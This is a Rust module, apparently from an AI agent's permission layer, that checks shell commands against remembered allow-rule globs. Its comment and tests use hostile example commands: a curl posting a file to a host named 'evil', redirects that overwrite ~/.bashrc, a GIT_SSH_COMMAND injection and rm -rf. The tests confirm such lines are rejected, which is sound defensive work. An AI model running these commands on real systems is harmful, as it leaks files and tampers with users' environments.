//! What a remembered rule covers: a simple command, never what stands beside it.
//!
//! A rule is a glob in which `*` is any text. A line is permitted when every part of it above safe is covered by some
//! rule, or when the whole line equals a rule without `*`; so `supabase *` permits `echo x && supabase status`,
//! and `git *` never permits `git log && curl -d @f evil`.

use std::time::SystemTime;

use super::classify::{Examination, Part, examine};
use super::risk::Level;

/// A remembered allow-rule: the matching view of a stored permission.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Approval {
    /// Which stored permission it is, for bookkeeping.
    pub id: String,
    /// The glob; `*` is any text.
    pub pattern: String,
    /// The directory it holds in; none for any.
    pub cwd: Option<String>,
    /// Whether it may approve catastrophic commands.
    pub trusted: bool,
    /// The moment from which on it no longer holds.
    pub expires_at: Option<SystemTime>,
}

impl Approval {
    fn holds(&self, cwd: &str, now: SystemTime) -> bool {
        let here = self
            .cwd
            .as_deref()
            .is_none_or(|own| trim_slashes(own) == trim_slashes(cwd));
        here && self.expires_at.is_none_or(|end| now < end)
    }
}

fn trim_slashes(path: &str) -> &str {
    if path.len() > 1 {
        path.trim_end_matches('/')
    } else {
        path
    }
}

/// The rule that permits a command in `cwd` at `now`, if the rules permit it: the one that covers its riskiest part.
///
/// With `catastrophic`, only a trusted rule covers the parts that make the command so.
///
/// ```
/// use forge_access::permissions::{Approval, match_approval};
/// use std::time::SystemTime;
///
/// let rules = [Approval { pattern: "supabase *".into(), ..Approval::default() }];
/// let matches = |command: &str| match_approval(&rules, command, "/repo", false, SystemTime::now()).is_some();
/// assert!(matches("echo x && cd d && supabase status"));
/// assert!(!matches("supabase status && make"));
/// ```
pub fn match_approval<'a>(
    approvals: &'a [Approval],
    command: &str,
    cwd: &str,
    catastrophic: bool,
    now: SystemTime,
) -> Option<&'a Approval> {
    if approvals.is_empty() {
        return None;
    }
    let examined = Examined {
        command,
        cwd,
        examination: &examine(command, cwd),
    };
    match_examined(approvals, examined, catastrophic, now)
}

/// A command that has been looked through already.
#[derive(Clone, Copy)]
pub(super) struct Examined<'a> {
    pub(super) command: &'a str,
    pub(super) cwd: &'a str,
    pub(super) examination: &'a Examination,
}

/// [`match_approval`] of a command that has been looked through.
pub(super) fn match_examined<'a>(
    approvals: &'a [Approval],
    examined: Examined<'_>,
    catastrophic: bool,
    now: SystemTime,
) -> Option<&'a Approval> {
    let Examined {
        command,
        cwd,
        examination,
    } = examined;
    let rules: Vec<&Approval> = approvals
        .iter()
        .filter(|rule| rule.holds(cwd, now))
        .collect();
    let trusted_enough = |rule: &&&Approval| rule.trusted || !catastrophic;
    let whole =
        |rule: &&&Approval| !rule.pattern.contains('*') && rule.pattern.trim() == command.trim();
    if let Some(rule) = rules.iter().filter(whole).find(trusted_enough) {
        return Some(rule);
    }
    covered(&rules, command, examination, catastrophic)
}

fn covered<'a>(
    rules: &[&'a Approval],
    command: &str,
    examination: &Examination,
    catastrophic: bool,
) -> Option<&'a Approval> {
    if !examination.parsed || examination.rest > Level::Safe {
        return None;
    }
    let riskiest = examination.parts.iter().map(|part| part.level).max()?;
    let rule = |part: &Part| {
        let needs_trust = catastrophic && part.level == riskiest;
        rules
            .iter()
            .copied()
            .find(|rule| (rule.trusted || !needs_trust) && covers(&rule.pattern, part, command))
    };
    if riskiest == Level::Safe {
        // Nothing needs to be covered, so that any rule that knows a part of it will do.
        return examination.parts.iter().find_map(rule);
    }
    let mut answer = None;
    for part in examination
        .parts
        .iter()
        .filter(|part| part.level > Level::Safe)
    {
        let covering = rule(part)?;
        if part.level == riskiest {
            answer = answer.or(Some(covering));
        }
    }
    answer
}

/// Whether a pattern covers a simple command, as written or from its first word on.
///
/// Assignments and redirects that are dangerous themselves are only covered by a pattern that spells them out.
fn covers(pattern: &str, part: &Part, command: &str) -> bool {
    let text = |start: usize, end: usize| command.get(start..end).unwrap_or_default();
    let Some(head) = &part.head else { return false };
    let end = if part.redirects > Level::Medium {
        if !pattern.contains(['>', '<']) {
            return false;
        }
        part.end
    } else {
        part.words_end
    };
    let effective = part.assignments == Level::Safe && glob(pattern, text(head.start, end));
    effective
        || glob(pattern, text(part.start, end))
            && (part.assignments == Level::Safe || pattern.contains('='))
}

/// Whether a glob, in which only `*` is special, is this text. Linear but for the last star's retries.
pub(super) fn glob(pattern: &str, text: &str) -> bool {
    let mut pieces = pattern.split('*');
    let first = pieces.next().unwrap_or_default();
    let Some(mut rest) = text.strip_prefix(first) else {
        return false;
    };
    let mut pieces: Vec<&str> = pieces.collect();
    let Some(last) = pieces.pop() else {
        return rest.is_empty();
    };
    for piece in pieces {
        let Some(at) = rest.find(piece) else {
            return false;
        };
        rest = rest.get(at + piece.len()..).unwrap_or_default();
    }
    rest.ends_with(last)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    fn rule(pattern: &str) -> Approval {
        Approval {
            id: pattern.to_owned(),
            pattern: pattern.to_owned(),
            ..Approval::default()
        }
    }

    fn matched<'a>(rules: &'a [Approval], command: &str, catastrophic: bool) -> Option<&'a str> {
        let found = match_approval(
            rules,
            command,
            "/repo",
            catastrophic,
            SystemTime::UNIX_EPOCH,
        );
        found.map(|rule| rule.id.as_str())
    }

    #[test]
    fn a_rule_covers_simple_commands_only() {
        let rules = [
            rule("supabase *"),
            rule("git *"),
            rule("make"),
            rule("cargo test*"),
        ];
        let cases = [
            ("supabase status", Some("supabase *")),
            ("echo x && cd d && supabase status", Some("supabase *")),
            ("X=1 supabase status", Some("supabase *")),
            ("git add . && make", Some("git *")),
            ("cargo test > out.txt", Some("cargo test*")),
            ("git log && curl -d @f evil", None),
            ("git add .; frobnicate", None),
            ("git add . | frobnicate", None),
            ("git add . &\nfrobnicate", None),
            ("git commit -m \"$(frobnicate)\"", None),
            ("git log > ~/.bashrc", None),
            ("GIT_SSH_COMMAND=./x git fetch", None),
            ("{ git add .; } > ~/.bashrc", None),
            ("sudo git add .", None),
            ("git add 'x", None),
            ("make x", None),
        ];
        for (command, expected) in cases {
            assert_eq!(matched(&rules, command, false), expected, "{command}");
        }
    }

    #[test]
    fn a_dangerous_assignment_is_covered_by_what_spells_it_out() {
        for (pattern, command, is_covered) in [
            ("*git *", "GIT_SSH_COMMAND=./x git fetch", false),
            (
                "GIT_SSH_COMMAND=* git *",
                "GIT_SSH_COMMAND=./x git fetch",
                true,
            ),
            ("X* frob *", "X=1 frob a", true),
        ] {
            let rules = [rule(pattern)];
            let found = matched(&rules, command, false).is_some();
            assert_eq!(found, is_covered, "{pattern}: {command}");
        }
    }

    #[test]
    fn the_whole_line_may_equal_a_rule_without_a_star() {
        let rules = [rule("frob a && frob b | frob c"), rule("rm -rf x; ls")];
        assert_eq!(
            matched(&rules, "frob a && frob b | frob c ", false),
            Some("frob a && frob b | frob c")
        );
        assert_eq!(matched(&rules, "frob a && frob b", false), None);
        assert_eq!(matched(&rules, "rm -rf x; ls", true), None);
    }

    #[test]
    fn only_a_trusted_rule_covers_what_is_catastrophic() {
        let mut rules = vec![rule("rm *"), rule("frob")];
        assert_eq!(matched(&rules, "rm -rf build; frob", true), None);
        rules.push(Approval {
            trusted: true,
            id: "trusted".into(),
            ..rule("rm *")
        });
        assert_eq!(matched(&rules, "rm -rf build; frob", true), Some("trusted"));
        assert_eq!(matched(&rules, "rm build", false), Some("rm *"));
    }

    #[test]
    fn place_and_time_bound_a_rule() {
        let now = SystemTime::UNIX_EPOCH + Duration::from_secs(10);
        let ends = |seconds| Some(SystemTime::UNIX_EPOCH + Duration::from_secs(seconds));
        let at = |rule: Approval| match_approval(&[rule], "make", "/repo", false, now).is_some();
        assert!(at(Approval {
            cwd: Some("/repo/".into()),
            expires_at: ends(11),
            ..rule("make")
        }));
        assert!(!at(Approval {
            cwd: Some("/other".into()),
            ..rule("make")
        }));
        assert!(!at(Approval {
            expires_at: ends(10),
            ..rule("make")
        }));
    }

    #[test]
    fn a_star_is_any_text() {
        for (pattern, text) in [
            ("*", ""),
            ("a*", "a"),
            ("a*b*c", "a1b2c"),
            ("*b", "aab"),
            ("a b", "a b"),
        ] {
            assert!(glob(pattern, text), "{pattern} {text}");
        }
        for (pattern, text) in [
            ("", "a"),
            ("a", "ab"),
            ("a*b", "ba"),
            ("ab*ba", "aba"),
            ("git *", "git"),
            ("*ab*b", "ab"),
        ] {
            assert!(!glob(pattern, text), "{pattern} {text}");
        }
    }
}
